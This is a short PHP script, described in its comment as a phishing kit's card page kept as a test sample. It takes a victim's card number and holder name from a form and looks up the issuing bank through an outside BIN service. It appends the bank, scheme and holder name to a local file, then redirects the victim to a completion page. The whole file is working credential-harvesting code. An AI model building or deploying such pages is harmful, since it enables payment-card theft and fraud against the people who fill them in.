<?php
// a kit's card page: the number typed in is looked up to name the bank, then kept in a file
// (written for the tests, never run)
$number = str_replace(' ', '', $_POST['cardnumber']);
$info = json_decode(file_get_contents("https://lookup.binlist.net/" . substr($number, 0, 6)));
$text = "Bank: " . $info->bank->name . " / " . $info->scheme . "\n";
$text .= "Holder: " . $_POST['holder'] . "\n";
file_put_contents("cards.txt", $text, FILE_APPEND);
header("Location: done.php");
